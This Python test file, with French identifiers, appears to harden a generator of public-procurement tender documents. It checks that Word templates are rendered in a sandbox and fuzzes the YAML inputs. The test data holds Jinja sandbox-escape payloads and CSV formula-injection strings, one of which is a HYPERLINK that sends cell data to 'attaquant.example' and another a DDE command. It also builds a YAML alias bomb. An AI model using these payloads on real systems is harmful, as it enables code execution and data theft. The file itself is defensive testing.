    racine = copie_catalogue(tmp_path)
    (racine / "modeles" / "dce.docx").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4)
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    assert code == 2 and "dce.docx : modèle Word illisible" in sortie, sortie
    code, sortie = dce("--catalogue", racine, "catalogue", "verifier")
    assert code == 2 and "dce.docx : modèle Word illisible" in sortie, sortie
    assert not (tmp_path / "s").exists()



@pytest.mark.parametrize("piege", ["{{ ''.__class__.__mro__[1].__subclasses__() }}",
                                   "{{ logo.tpl.save('CIBLE') }}",
                                   "{{ acheteur_adresse.__init__.__globals__ }}"])
def test_modele_word_piege_dans_le_bac_a_sable(tmp_path, piege):
    """Un modèle Word d'acheteur est rendu dans le même bac à sable que les clauses."""
    racine = copie_catalogue(tmp_path)
    if "logo" in piege:  # une vraie image : `logo` est alors un objet de docxtpl qui connaît son document
        import struct
        import zlib

        def morceau(genre: bytes, donnees: bytes) -> bytes:
            return struct.pack(">I", len(donnees)) + genre + donnees + struct.pack(">I", zlib.crc32(genre + donnees))
        (racine / "acheteurs" / "occitanie" / "logo.png").write_bytes(
            b"\x89PNG\r\n\x1a\n" + morceau(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + morceau(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + morceau(b"IEND", b""))
        ajouter(racine / "acheteurs" / "occitanie" / "acheteur.yaml", "logo: null", 'logo: "logo.png"')
    modele = racine / "modeles" / "dce.docx"
    with zipfile.ZipFile(RACINE / "modeles" / "dce.docx") as source, zipfile.ZipFile(modele, "w") as cible:
        for nom in source.namelist():
            contenu = source.read(nom)
            if nom == "word/document.xml":
                piege = piege.replace("CIBLE", str(tmp_path / "ecrit-par-un-modele.docx"))
                contenu = contenu.replace(b"{{ reference }}", b"{{ reference }} " + piege.encode().replace(b"'", b"&apos;"))
            cible.writestr(nom, contenu)
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    assert code == 2 and "dce.docx" in sortie and "bac à sable" in sortie, sortie
    assert not (tmp_path / "ecrit-par-un-modele.docx").exists() and not (tmp_path / "s").exists()

# --- fouille : mutations des exemples valides, par familles, commande réelle dans le processus ------------------
#
# Chaque entrée part d'un exemple de exemples/ et lui applique une famille de mutations ; le résultat attendu est
# connu d'avance : même code que l'exemple intact (le texte ou la valeur ne change pas de sens), refus (code 2),
# ou génération. Toujours : jamais de code 3 ni de trace, rien d'écrit en cas de refus, documents lisibles sinon.
# DCE_FOUILLE=20000 pytest tests/test_surete_entrees.py -k fouille : campagne longue (chiffres au README).

ENTREES_FOUILLE = max(1000, int(os.environ.get("DCE_FOUILLE", "0")))
VALIDES = {f.stem: yaml.safe_load(f.read_text(encoding="utf-8")) for f in sorted(EXEMPLES.glob("*.yaml"))}
CONTROLES = ["\v", "\f", "\x01", "\x07", "\x1b", "\x7f", "\x85", "\u2028", "\t", "\r\n", "\x00"]
PREFIXES_FORMULE = ["=1+1", '=HYPERLINK("http://attaquant.example/?"&A1,"Voir")', "+1+1", "-2+3", "@SUM(A1:A2)",
                    "=cmd|' /C calc'!A0"]
DATES_INEXISTANTES = ["2026-02-30", "2026-13-01", "0000-01-01", "2027-02-29", "2026-04-31", "2026-00-10"]
MEME_CODE, GENERE, REFUS, LIBRE = "même code que l'exemple", "génère", "refus", "libre"
# Familles qui génèrent (le texte ou la valeur garde son sens) et familles refusées (code 2) : à peu près autant de
# chaque, pour que la majorité des entrées produise des documents et que chaque refus soit essayé souvent.
# Poids sur 100 : 58 pour les familles qui génèrent, 42 pour celles qui sont refusées.
POIDS = {"controle": 12, "formule": 10, "zeros": 10, "alias": 8, "gros_lots": 6, "variation": 12,
         "date_inexistante": 10, "bombe": 6, "entier_enorme": 8, "sexagesimal": 8, "valeurs": 10}
FAMILLES = [famille for famille, poids in POIDS.items() for _ in range(poids)]


def _textes(donnees: dict) -> list[tuple[dict, str]]:
    """(conteneur, clé) de chaque texte libre : objet, lieu, intitulés et descriptions des lots, lignes de prix."""
    lieux = [(donnees, c) for c in ("objet", "lieu_execution") if isinstance(donnees.get(c), str)]
    for lot in donnees["lots"]:
        lieux += [(lot, c) for c in ("intitule", "description") if isinstance(lot.get(c), str)]
        lieux += [(l, c) for l in lot.get("lignes_prix") or [] for c in ("designation", "unite")]
    return lieux


def _nombres(donnees: dict) -> list[tuple[dict, str]]:
    lieux = [(donnees, "duree_mois")]
    for lot in donnees["lots"]:
        lieux.append((lot, "montant_estime"))
        lieux += [(l, "quantite") for l in lot.get("lignes_prix") or [] if isinstance(l.get("quantite"), int)]
    return [(c, k) for c, k in lieux if isinstance(c.get(k), int) and not isinstance(c.get(k), bool) and c[k] > 0]


@st.composite
def cas_de_fouille(draw):
    """(exemple, texte YAML, famille, résultat attendu)."""
    nom = draw(st.sampled_from(sorted(VALIDES)))
    donnees = copy.deepcopy(VALIDES[nom])
    famille = FAMILLES[draw(st.integers(0, len(FAMILLES) - 1))]
    # un objet propre à chaque entrée : aucune famille n'épuise ses cas (hypothesis ne rejoue pas un cas déjà vu),
    # la proportion de chaque famille reste donc stable d'une exécution à l'autre
    donnees["objet"] = f"{donnees['objet']} (essai {draw(st.integers(0, 10**6))})"
    bruts: dict[str, str] = {}  # jeton → YAML brut, posé après l'écriture (dates, zéros, bombe)
    attendu = MEME_CODE
    if famille in ("controle", "formule"):
        lieux = _textes(donnees)
        for i in draw(st.lists(st.integers(0, len(lieux) - 1), min_size=1, max_size=4, unique=True)):
            conteneur, cle = lieux[i]
            texte = str(conteneur[cle])
            if famille == "controle":
                position = draw(st.integers(0, len(texte)))
                texte = texte[:position] + draw(st.sampled_from(CONTROLES)) + texte[position:]
            else:
                texte = draw(st.sampled_from(PREFIXES_FORMULE)) + " " + texte
            conteneur[cle] = texte
    elif famille == "zeros":
        lieux = _nombres(donnees)
        for i in draw(st.lists(st.integers(0, len(lieux) - 1), min_size=1, max_size=3, unique=True)):
            conteneur, cle = lieux[i]
            jeton = f"ZEROS{i}"
            bruts[jeton] = "0" * draw(st.integers(1, 3)) + str(conteneur[cle])
            conteneur[cle] = jeton
    elif famille == "alias":  # la même liste de lignes de prix pour plusieurs lots : ancre et alias YAML
        lignes = donnees["lots"][0].get("lignes_prix") or [{"designation": "Prestation", "unite": "forfait"}]
        for lot in donnees["lots"][: draw(st.integers(1, len(donnees["lots"])))]:
            lot["lignes_prix"] = lignes
        attendu = GENERE
    elif famille == "gros_lots":
        modele = donnees["lots"][0]
        lignes = (modele.get("lignes_prix") or []) * draw(st.integers(1, 2))
        donnees["lots"] = [{**copy.deepcopy(modele), "numero": n, "intitule": f"{modele['intitule']} ({n})",
                            "lignes_prix": copy.deepcopy(lignes)} for n in range(1, draw(st.integers(2, 5)) + 1)]
        donnees.pop("montant_total_estime", None)
        attendu = GENERE
    elif famille == "variation":  # réponses valides voisines : durée, montants, date de lancement
        donnees["duree_mois"] = draw(st.integers(1, 48))
        for lot in donnees["lots"]:
            lot["montant_estime"] = draw(st.integers(1_000, 20_000_000))
            lot.pop("duree_mois", None)
        donnees.pop("montant_total_estime", None)
        lancement = dt.date(2026, 12, 1) + dt.timedelta(days=draw(st.integers(-2000, 300)))
        donnees["date_lancement"] = lancement
        donnees["date_limite_offres"] = f"{lancement + dt.timedelta(days=draw(st.integers(1, 90)))} 12:00"
        attendu = LIBRE
    elif famille == "date_inexistante":
        champ = draw(st.sampled_from(["date_lancement", "date_limite_offres"]))
        an = draw(st.integers(0, 2100))
        bruts["DATE"] = draw(st.sampled_from(DATES_INEXISTANTES) | st.sampled_from([
            f"{an:04d}-02-{draw(st.integers(30, 31))}", f"{an:04d}-{draw(st.integers(13, 99))}-01",
            f"{an:04d}-04-31", f"{an:04d}-01-{draw(st.integers(32, 99))}", f"0000-0{draw(st.integers(1, 9))}-01"]))
        donnees[champ] = "DATE"
        attendu = REFUS
    elif famille == "bombe":
        attendu = REFUS
    elif famille in ("entier_enorme", "sexagesimal"):
        conteneur, cle = draw(st.sampled_from(_nombres(donnees)))
        bruts["NOMBRE"] = ("9" * draw(st.integers(4_301, 6_000)) if famille == "entier_enorme"
                           else f"{draw(st.integers(1, 59))}:{draw(st.integers(0, 59)):02d}")
        conteneur[cle] = "NOMBRE"
        attendu = REFUS
    else:  # valeurs quelconques à un chemin quelconque
        cle = draw(st.sampled_from(sorted(donnees)))
        donnees[cle] = draw(st.none() | st.booleans() | st.integers(-10**30, 10**30) | st.floats()
                            | st.text(max_size=40) | st.lists(st.integers(), max_size=3))
        attendu = LIBRE
    texte = yaml.dump(donnees, Dumper=getattr(yaml, "CSafeDumper", yaml.SafeDumper), allow_unicode=True, sort_keys=False)
    for jeton, brut in bruts.items():
        texte = texte.replace(f"'{jeton}'", brut).replace(f": {jeton}\n", f": {brut}\n")
    if famille == "bombe":
        texte += "rires:\n" + "".join("  " + l + "\n" for l in bombe(draw(st.integers(7, 10))).splitlines())
    return nom, texte, famille, attendu


_codes_des_exemples: dict[str, int] = {}


def _code_de_l_exemple(nom: str, dossier: Path) -> int:
    if nom not in _codes_des_exemples:
        _codes_des_exemples[nom] = CliRunner().invoke(
            main, ["generer", str(EXEMPLES / f"{nom}.yaml"), "--sortie", str(dossier / f"base-{nom}")]).exit_code
    return _codes_des_exemples[nom]


def test_fouille_des_exemples_mutes(tmp_path):
    bilan: Counter[str] = Counter()
    echantillon = tmp_path / "echantillon"  # deux pièces produites par famille, ouvertes par LibreOffice à la fin
    echantillon.mkdir()

    @settings(max_examples=ENTREES_FOUILLE, deadline=None, database=None,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(cas=cas_de_fouille())
    def essai(cas):
        nom, texte, famille, attendu = cas
        with tempfile.TemporaryDirectory(dir=tmp_path) as dossier:
            code = _essayer(Path(dossier), nom, texte, famille, attendu, tmp_path)
            if code in (0, 1) and len(list(echantillon.glob(f"{famille}-*"))) < 2:
                for piece in ("RC", "CCAP"):
                    shutil.copy(next((Path(dossier) / "sortie").glob(f"*-{piece}.docx")),
                                echantillon / f"{famille}-{bilan[famille]}-{piece}.docx")
        bilan[famille] += 1
        bilan["documents" if code in (0, 1) else "refus"] += 1

    essai()
    print(f"\nfouille : {dict(bilan)}")
    assert bilan["documents"] + bilan["refus"] >= ENTREES_FOUILLE
    assert bilan["documents"] > bilan["refus"], bilan
    if soffice() is not None:  # sous CI=true, son absence fait échouer soffice() lui-même
        from generateur.rendu.pdf import convertir

        pieces = sorted(echantillon.glob("*.docx"))
        pdfs = convertir(pieces, tmp_path / "pdf")
        assert len(pieces) >= 8 and all(pdfs[p.resolve()].stat().st_size > 1000 for p in pieces), pdfs


def _essayer(dossier: Path, nom: str, texte: str, famille: str, attendu: str, tmp_path: Path) -> int:
    """`dce generer` sur un cas de fouille ; vérifie code, message, fichiers ; renvoie le code."""
    fichier = dossier / "reponses.yaml"
    fichier.write_text(texte, encoding="utf-8")
    joindre_pieces_des_exemples(dossier)
    sortie = dossier / "sortie"
    resultat = CliRunner().invoke(main, ["generer", str(fichier), "--sortie", str(sortie)])
    code = resultat.exit_code
    assert code in (0, 1, 2) and "Traceback" not in resultat.output, (famille, resultat.output)
    assert resultat.exception is None or isinstance(resultat.exception, SystemExit), resultat.exception
    if attendu == MEME_CODE:
        assert code == _code_de_l_exemple(nom, tmp_path), (famille, resultat.output)
    elif attendu == GENERE:
        assert code in (0, 1), (famille, resultat.output)
    elif attendu == REFUS:
        raisons = {"date_inexistante": "date inexistante", "bombe": "alias", "entier_enorme": "nombre trop long",
                   "sexagesimal": "un nombre"}
        assert code == 2 and raisons[famille] in resultat.output, (famille, resultat.output)
    if code == 2:
        assert not sortie.exists() and "Erreur" in resultat.output
    else:
        pieces = sorted(sortie.glob("*.docx"))
        assert len(pieces) >= 5
        # XML de chaque pièce quand la mutation touche aux textes ; du CCAP seul sinon (la fouille reste rapide)
        lues = pieces if famille in ("controle", "formule") else [p for p in pieces if p.name.endswith("CCAP.docx")]
        for piece in lues:
            with zipfile.ZipFile(piece) as z:
                etree.fromstring(z.read("word/document.xml"))  # XML bien formé, sans récupération
        if famille == "formule":
            csv_annexe = next(sortie.glob("*-annexe-conformite.csv")).read_text(encoding="utf-8-sig")
            assert not any(c[:1] in "=+-@" for l in csv_annexe.splitlines() for c in l.split(";") if c), csv_annexe
    return code

